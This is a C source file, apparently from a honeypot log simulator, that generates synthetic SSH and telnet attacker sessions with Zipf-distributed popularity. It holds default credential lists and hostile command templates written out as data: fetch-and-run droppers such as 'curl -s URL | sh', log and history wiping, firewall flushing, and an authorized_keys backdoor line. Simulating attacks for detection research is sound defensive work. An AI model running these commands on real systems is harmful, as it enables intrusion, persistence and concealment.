/* vocabulary.c - what attackers say: tools, credentials, wordlists, command lines, scripts, artefacts.
 * All of it is invented in the style of real logs. Popularity follows Zipf laws with exponents between 1.0 and 1.3.
 * Planted groups draw from the same vocabulary: a private wordlist is one from the unpopular end, never one of words
 * that exist nowhere else, so that nothing can be found by its alphabet. */
#include "generate/world.h"

#include <math.h>
#include <stdio.h>

enum { SCRIPT_TRIES = 4096 };

#define LENGTH(array) ((uint32_t)(sizeof(array) / sizeof((array)[0])))

static const char *const users[] = { "root", "admin", "user", "test", "ubuntu", "pi", "oracle",
	"postgres", "git", "ftpuser", "guest", "support", "nagios", "mysql", "www", "deploy",
	"hadoop", "dev", "ubnt", "jenkins", "tomcat", "elastic", "minecraft", "steam", "backup",
	"zabbix", "ansible", "docker", "vagrant", "centos", "debian", "ec2-user", "tester",
	"student", "server", "ts3", "operator", "default", "supervisor", "service" };

static const char *const passwords[] = { "123456", "password", "admin", "root", "12345", "1234",
	"12345678", "qwerty", "1q2w3e4r", "123", "test", "abc123", "P@ssw0rd", "admin123",
	"root123", "1qaz2wsx", "toor", "changeme", "letmein", "welcome", "raspberry", "ubuntu",
	"user", "guest", "support", "default", "passw0rd", "111111", "123123", "000000", "master",
	"dragon", "monkey", "qwe123", "zaq12wsx", "pass", "pass123", "server", "oracle", "postgres",
	"mysql", "system", "alpine", "vizxv", "xc3511", "anko", "888888", "666666", "7ujMko0admin",
	"hi3518", "jvbzd", "klv1234", "realtek", "54321", "password1", "secret", "superman",
	"iloveyou", "trustno1", "internet" };

static const char *const ssh_banners[] = { "SSH-2.0-Go", "SSH-2.0-libssh2_1.%u.0",
	"SSH-2.0-libssh_0.9.%u", "SSH-2.0-paramiko_2.%u.0", "SSH-2.0-PUTTY_Release_0.%u",
	"SSH-2.0-OpenSSH_7.%up1", "SSH-2.0-JSCH-0.1.%u", "SSH-2.0-libssh-0.6.%u",
	"SSH-2.0-AsyncSSH_2.%u.0", "SSH-2.0-Renci.SshNet.SshClient.0.%u" };

static const char *const kex[] = { "curve25519-sha256", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384",
	"diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1",
	"diffie-hellman-group1-sha1" };
static const char *const ciphers[] = { "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-cbc",
	"3des-cbc", "chacha20-poly1305@openssh.com" };
static const char *const macs[] = { "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1", "hmac-md5" };

static const char *const lines[] = { "uname -a", "cat /proc/cpuinfo", "free -m", "w", "whoami",
	"uptime", "ls -la", "cat /proc/meminfo", "id", "ps aux", "crontab -l", "uname -m",
	"top -bn1", "df -h", "which ls", "ls -lh $(which ls)", "cat /etc/passwd", "netstat -ntlp",
	"ifconfig", "cat /etc/issue", "lscpu", "nproc", "history -c", "cd /tmp", "cd /var/tmp",
	"cd /dev/shm", "cat /proc/cpuinfo | grep name | wc -l", "cat /proc/mounts", "mount",
	"cat /proc/version",
	"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
	"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "echo $SHELL", "env", "last",
	"rm -rf /var/log/wtmp", "rm -rf ~/.bash_history", "unset HISTFILE",
	"export HISTFILE=/dev/null", "export HISTFILESIZE=0", "kill -9 -1", "pkill -9 cron",
	"service iptables stop", "/etc/init.d/iptables stop", "setenforce 0", "ulimit -n 65535",
	"hostname", "cat /etc/os-release", "cat /etc/hosts", "ip a", "route -n", "iptables -F",
	"ls /home", "ls -la /root/.ssh", "dmidecode | grep Vendor", "lspci | grep -i vga",
	"nvidia-smi -q | grep 'Product Name'", "curl --version", "wget --version",
	"python3 --version", "perl -v", "gcc --version", "busybox", "tftp", "echo -n test",
	"passwd", "dd if=/proc/self/exe bs=22 count=1",
	"while read i; do echo $i; done < /proc/self/exe", "chattr -ia ~/.ssh", "lockr -ia .ssh",
	"cat /var/spool/cron/root", "ps -ef | grep miner" };

static const char *const telnet_openers[] = { "enable", "system", "shell", "sh" };

static const char *const fetchers[] = { "wget \001 -O \002; chmod 777 \002; ./\002; rm -f \002",
	"cd /tmp || cd /var/run || cd /mnt; wget \001; sh \002",
	"curl -O \001; chmod +x \002; ./\002", "cd /tmp; wget -q \001 -O \002 && sh \002",
	"curl -s \001 | sh", "/bin/busybox wget \001; /bin/busybox chmod 777 \002; ./\002 telnet" };

/* Cumulative shares of a Zipf law over n ranks. */
static void
zipf_shares(double *shares, uint32_t n, double exponent)
{
	double sum = 0.0;

	shares[0] = 0.0;
	for (uint32_t i = 0; i < n; i++)
		shares[i + 1] = sum += pow(i + 1.0, -exponent);
	for (uint32_t i = 1; i <= n; i++)
		shares[i] /= sum;
	shares[n] = 1.0;
}

static double
draw_exponent(const struct world *w, struct rng *rng)
{
	double drawn = 1.0 + 0.3 * rng_uniform(rng);

	return w->config->profile.zipf > 0.0 ? w->config->profile.zipf : drawn;
}

/* `from` in the cyclic order that begins at `first`, leaving some out, comma-joined. */
static void
join_algorithms(struct buf *out, const char *const *from, uint32_t n, struct rng *rng)
{
	uint32_t first = rng_below(rng, n), count = 2 + rng_below(rng, n - 1);

	for (uint32_t i = 0; i < count; i++) {
		if (i > 0)
			buf_add_char(out, ',');
		buf_add_str(out, from[(first + i) % n]);
	}
}

/* HASSH is the MD5 of the algorithm lists joined by semicolons, so the two agree as in a real log. */
static void
tool_fingerprint(struct tool *tool, struct rng *rng)
{
	struct buf text = BUF_INIT(sizeof(tool->algorithms) - 1);
	uint8_t digest[16];

	join_algorithms(&text, kex, 3 + rng_below(rng, LENGTH(kex) - 3), rng);
	buf_add_char(&text, ';');
	join_algorithms(&text, ciphers, LENGTH(ciphers) - 3, rng);
	buf_add_char(&text, ';');
	join_algorithms(&text, macs, LENGTH(macs), rng);
	buf_add_str(&text, ";none");
	snprintf(tool->algorithms, sizeof(tool->algorithms), "%s", buf_cstr(&text));
	buf_clear(&text);
	md5_of(tool->algorithms, strlen(tool->algorithms), digest);
	hex_of(digest, sizeof(digest), tool->hassh);
}

static void
tools_init(struct world *w)
{
	w->profile.amplitude = 0.0;
	for (uint32_t i = w->real == NULL ? 0 : w->n_tools; i < TOOLS; i++) {
		struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 1, i);
		struct tool *tool = &w->tools[i];

		tool->service = i % 4 == 3 ? SERVICE_TELNET : SERVICE_SSH;
		tool->list = (uint8_t)(i % LISTS_PUBLIC);
		tool->script = (uint8_t)(i % SCRIPTS_PUBLIC);
		tool->amplitude = 0.8 * rng_uniform(&rng);
		if (w->config->profile.amplitude > 0.0)
			tool->amplitude = w->config->profile.amplitude;
		w->profile.amplitude += tool->amplitude / TOOLS;
		if (tool->service == SERVICE_TELNET)
			continue;
		const char *format = ssh_banners[i % LENGTH(ssh_banners)];
		const char *at = strchr(format, '%');

		if (at == NULL)
			snprintf(tool->banner, sizeof(tool->banner), "%s", format);
		else
			snprintf(tool->banner, sizeof(tool->banner), "%.*s%u%s", (int)(at - format),
			    format, 1 + i / 2, at + 2);
		tool_fingerprint(tool, &rng);
	}
}

/* Copies and ends; the words are all shorter than 20 bytes. */
static size_t
put_word(char ret[32], const char *word)
{
	size_t len = strlen(word);

	memcpy(ret, word, len + 1);
	return len;
}

void
vocabulary_credential(uint32_t rank, char user[32], char password[32])
{
	/* the head of the list crosses the five commonest users with all passwords */
	uint32_t head = 5 * LENGTH(passwords);
	size_t len;

	if (rank < head) {
		put_word(user, users[rank % 5]);
		put_word(password, passwords[rank / 5]);
		return;
	}
	put_word(user, users[rank % LENGTH(users)]);
	len = put_word(password, passwords[rank / LENGTH(users) % LENGTH(passwords)]);
	snprintf(password + len, 32 - len, "@%u", rank);
}

const char *
vocabulary_line(const struct world *w, struct rng *rng)
{
	uint32_t rank;

	if (w->lines != NULL)
		return w->lines[draw_share(w->line_shares, w->n_lines, rng)];
	rank = draw_share(w->script_shares, SCRIPTS_PUBLIC, rng);

	/* the same law as for scripts, spread over the lines */
	return lines[(rank * 7 + rng_below(rng, 7)) % LENGTH(lines)];
}

static bool
script_has(const struct script *s, const char *line)
{
	for (uint32_t i = 0; i < s->n; i++)
		if (s->lines[i] == line)
			return true;
	return false;
}

struct script
vocabulary_script(struct world *w, uint32_t n, struct payload payload, bool telnet, struct rng *rng)
{
	struct script s = { .payload = payload };

	n = n < LINES_MOST - 2 ? n : LINES_MOST - 2;
	if (telnet) {
		for (uint32_t i = 0; i < LENGTH(telnet_openers) && s.n < n; i++)
			s.lines[s.n++] = telnet_openers[i];
	}
	/* a real log may have few lines that are common: a shorter script, then */
	for (uint32_t tries = 0; s.n < n && tries < SCRIPT_TRIES; tries++) {
		const char *line = vocabulary_line(w, rng);

		if (!script_has(&s, line))
			s.lines[s.n++] = line;
	}
	if (payload.mode != PAYLOAD_NONE)
		s.lines[s.n++] = fetchers[telnet ? 5 : rng_below(rng, 5)];
	return s;
}

const char *
vocabulary_key_line(struct world *w, uint64_t salt)
{
	static const char digits[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	struct rng rng = rng_at(salt, STAGE_ARTEFACT, 0, 0);
	char key[321];
	const char *line;

	for (size_t i = 0; i < sizeof(key) - 1; i++)
		key[i] = digits[rng_below(&rng, 64)];
	key[sizeof(key) - 1] = '\0';
	line = arena_printf(w->arena,
	    "mkdir -p ~/.ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ%s== %s%u\" >> "
	    "~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
	    key, users[rng_below(&rng, LENGTH(users))], rng_below(&rng, 100));
	w->failed = w->failed || line == NULL;
	return line == NULL ? "" : line;
}

uint32_t
vocabulary_list(struct world *w, uint32_t n, double private_share, struct rng *rng)
{
	uint32_t *ranks = ARENA_ARRAY_RAW(w->arena, n, uint32_t);
	struct map seen = MAP_INIT;
	uint32_t filled = 0, most = w->n_credentials / 2;

	n = n < most ? n : most;

	if (ranks == NULL) {
		w->failed = true;
		return 0;
	}
	while (filled < n) {
		uint32_t tail = w->n_credentials / 6;
		uint32_t rank = rng_uniform(rng) < private_share
				    ? tail + rng_below(rng, w->n_credentials - tail)
				    : draw_share(w->credential_shares, w->n_credentials, rng);
		uint32_t *slot = map_slot(&seen, rank + 1);

		if (slot == NULL) {
			w->failed = true;
			break;
		}
		if (*slot != MAP_NONE)
			continue;
		*slot = 1;
		ranks[filled++] = rank;
	}
	map_clear(&seen);
	return world_add_list(w, ranks, filled);
}

/* Not all zones are alike: which of them attack most is the site's. */
static void
zones_init(struct world *w)
{
	struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 4, 0);

	for (uint32_t z = 0; z < ZONES; z++)
		w->zone_shares[z + 1] = w->zone_shares[z] + 0.5 + rng_uniform(&rng);
	for (uint32_t z = 1; z < ZONES; z++)
		w->zone_shares[z] /= w->zone_shares[ZONES];
	w->zone_shares[ZONES] = 1.0;
}

/* A public script leaves no exclusive trace: everybody serves a build of his own. The leaked bot always does, and the
 * popular script is the exception: one public payload for all its users. */
static void
scripts_init(struct world *w)
{
	for (uint32_t i = 0; i < SCRIPTS_PUBLIC; i++) {
		struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 3, i);
		struct payload payload = { .mode = PAYLOAD_NONE };
		struct script script;

		if (rng_below(&rng, 5) < 2 || i == SCRIPT_LEAKED)
			payload = (struct payload){ .mode = PAYLOAD_PER_ACTOR,
				.url = URL_PER_ACTOR,
				.salt = rng_u64(&rng) };
		script = vocabulary_script(w, 2 + rng_below(&rng, 9), payload, i % 4 == 3, &rng);
		/* the leaked bot stays what it is: it is sure to bring builds of everybody's own */
		if (i < w->n_real_scripts && i != SCRIPT_LEAKED)
			script = w->real_scripts[i];
		world_add_script(w, &script);
	}
	struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 3, SCRIPT_POPULAR);
	struct payload payload = { .mode = PAYLOAD_ONE, .salt = rng_u64(&rng) };
	struct script popular = vocabulary_script(w, 6, payload, false, &rng);

	world_add_script(w, &popular);
}

/* How popular everything is in a simulated background. */
static void
popularity_init(struct world *w)
{
	struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 0, 0);

	w->profile.zipf = draw_exponent(w, &rng);
	zipf_shares(w->tool_shares, TOOLS, w->profile.zipf);
	zipf_shares(w->credential_shares, CREDENTIALS, draw_exponent(w, &rng));
	zipf_shares(w->script_shares, SCRIPTS_PUBLIC, draw_exponent(w, &rng));
}

void
vocabulary_init(struct world *w)
{
	if (w->real == NULL)
		popularity_init(w);
	tools_init(w);
	zones_init(w);
	for (uint32_t i = 0; i < LISTS_PUBLIC; i++) {
		struct rng rng = rng_at(w->site, STAGE_VOCABULARY, 2, i);

		vocabulary_list(w, 30 + rng_below(&rng, 270), 0.2, &rng);
	}
	scripts_init(w);
}
